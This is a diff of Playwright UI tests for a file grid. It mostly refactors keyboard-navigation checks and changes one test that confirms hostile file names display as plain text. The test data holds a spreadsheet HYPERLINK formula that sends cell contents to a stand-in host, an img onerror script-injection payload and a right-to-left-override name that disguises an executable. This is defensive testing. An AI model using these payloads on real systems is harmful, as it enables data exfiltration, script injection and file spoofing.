@@ -120,7 +120,8 @@ test("the arrows to the side go into the cells of a row, and Escape out of them"
   await grid(page).focus();
   const press = (key) => page.keyboard.press(key);
   const is = (role, row, text) => expect.poll(() => active(page)).toMatchObject({ role, row, ...(text && { text }) });
-  const [first, second] = await shownIds(page, 2);
+  const ids = await shownIds(page);
+  const [first, second] = ids;
   await grid(page).focus();
   await is("row", first);
   await press("ArrowRight");
@@ -145,7 +146,7 @@ test("the arrows to the side go into the cells of a row, and Escape out of them"
   await press("ArrowRight");
   await press("ArrowRight");
   await press("Control+End");
-  await expect.poll(async () => (await active(page))?.text).toBe((await shownIds(page)).at(-1));
+  await expect.poll(async () => (await active(page))?.text).toBe(ids.at(-1));
 });
 
 test("single keys move and select, search and help; they can be switched off", async ({ page, account }) => {
@@ -338,12 +339,12 @@ test("the scroll position survives a reload and the way back", async ({ page, ac
 test("names that want to be more are shown as text, in one line, in their own direction", async ({ page, account }) => {
   await account.reset({ files: 0, stores: 0, batches: 0 });
   const names = [
-    '=HYPERLINK("https://example.invalid/?"&A1,"Open")',
+    "=HYPERLINK('https://example.invalid/?'&A1,'Open')",
     "<img src=x onerror=document.title='broken'>",
     "שלום עולם.pdf",
     "invoice\u202efdp.exe",
     "n".repeat(500),
-    "two\nlines\tand a tab",
+    "a tab\tand a bell\u0007",
   ];
   for (const name of names) await account.addFile(name);
   await enter(page, account);
@@ -364,7 +365,7 @@ test("names that want to be more are shown as text, in one line, in their own di
   expect(texts).toContain(names[2]);
   expect(texts).toContain("invoice⟨U+202E⟩fdp.exe");
   expect(texts).toContain(names[4]);
-  expect(texts).toContain("two⟨U+000A⟩lines⟨U+0009⟩and a tab");
+  expect(texts).toContain("a tab⟨U+0009⟩and a bell⟨U+0007⟩");
   expect(await page.title()).not.toBe("broken");
   // The whole of a long name on hover.
   await page.getByText(names[4]).hover();
